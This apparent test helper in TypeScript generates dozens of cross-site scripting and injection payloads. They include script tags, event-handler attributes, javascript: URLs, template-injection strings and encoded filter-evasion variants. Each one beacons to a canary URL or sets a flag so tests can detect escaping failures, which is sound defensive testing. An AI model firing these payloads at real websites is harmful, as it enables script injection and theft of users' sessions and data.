/** Returns distinct hostile texts; `window.hacked` or a request to the canary reveals one that ran. */
export function hostileTexts(canary: string): string[] {
  const script = `window.hacked=1,fetch('${canary}/run')`;
  const payloads = [
    `<script>${script}</script>`,
    `<script src=${canary}/x.js></script>`,
    `<img src=x onerror="${script}">`,
    `<img src="${canary}/x.png">`,
    `<svg onload="${script}"></svg>`,
    `<svg><script>${script}</script></svg>`,
    `<iframe src="javascript:${script}"></iframe>`,
    `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
    `<a href="javascript:${script}">open</a>`,
    `<a href="${canary}/link">open</a>`,
    `<style>@import '${canary}/x.css';</style>`,
    `<link rel=stylesheet href=${canary}/x.css>`,
    `<meta http-equiv=refresh content="0;url=${canary}">`,
    `<base href="${canary}/">`,
    `<form action=${canary}><input type=submit></form>`,
    `<object data="${canary}/x"></object>`,
    `<video src=${canary}/x onerror="${script}"></video>`,
    `<details open ontoggle="${script}">x</details>`,
    `<input autofocus onfocus="${script}">`,
    `<math><mtext><img src=x onerror="${script}"></mtext></math>`,
    `javascript:${script}`,
    `data:text/html,<script>${script}</script>`,
    `${canary}/plain`,
    `\${${script}}`,
    `{{constructor.constructor('${script}')()}}`,
    `{{name}} {{count}} {{search}}`,
    `'; ${script}; //`,
    `"); ${script}; ("`,
    `100%;background:url(${canary}/css)`,
    `}*{background:url(${canary}/css)}`,
    `expression(${script})`,
    `<!--<img src="--><img src=x onerror=${script}>`,
    `]]><script>${script}</script>`,
    `&lt;script&gt;${script}&lt;/script&gt;`,
    `&#60;img src=x onerror=${script}&#62;`,
    `%3Cscript%3E${script}%3C/script%3E`,
    `\\u003cscript\\u003e${script}`,
    `__proto__`,
    `[object Object] ${script}`,
    `$& $1 $$ \${0} %s %o ${script}`,
  ];
  const wrappers = [
    (text: string) => text,
    (text: string) => `"></div>${text}`,
    (text: string) => `' ${text} '`,
    (text: string) => `Ada ${text} Lovelace`,
    (text: string) => `--></title></textarea></style>${text}`,
  ];
  return wrappers.flatMap((wrap) => payloads.map(wrap));
}

/** Returns every `step`-th item, starting at index `from`. */
export const everyNth = <Item>(all: readonly Item[], step: number, from = 0): Item[] =>
  all.filter((_, index) => index % step === from);

/** Returns texts that can be a server message; the app never shows those that look like a proxy page. */
export const hostileMessages = (canary: string): string[] =>
  everyNth(hostileTexts(canary), 9, 1).filter(
    (text) => !/<(script|title|h1|body)|\[object/i.test(text),
  );

/** Returns a server message as the app shows it: on one line. */
export const onOneLine = (text: string): string => text.trim().replaceAll(/\s+/g, ' ');
